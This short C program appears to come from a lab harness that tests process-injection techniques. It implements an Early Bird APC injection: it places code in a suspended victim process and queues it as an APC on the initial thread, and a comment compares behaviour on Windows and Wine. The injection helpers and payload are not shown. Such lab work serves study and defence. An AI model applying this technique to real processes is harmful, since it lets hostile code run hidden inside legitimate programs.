/* early-bird-apc.c - attack (f): queue a user APC with the injected code to
 * the victim's suspended initial thread. On Windows the loader delivers it
 * before the entry point; under Wine 8 it did not (see README). */
#include "attack.h"
#include "inject.h"

int main(void)
{
    struct victim v;
    victim_start(&v, "victim-crt.exe");
    ULONG_PTR stub = inj_place(v.pi.hProcess, 0, INJ_MODE_APC, "early-bird-apc", NULL);
    if (!stub)
        lab_die("inj_place");
    if (!QueueUserAPC((PAPCFUNC)stub, v.pi.hThread, 0))
        lab_die("QueueUserAPC");
    char detail[128];
    snprintf(detail, sizeof detail, "apc_routine=0x%llx", (unsigned long long)stub);
    victim_report(&v, detail);
    return victim_finish(&v);
}
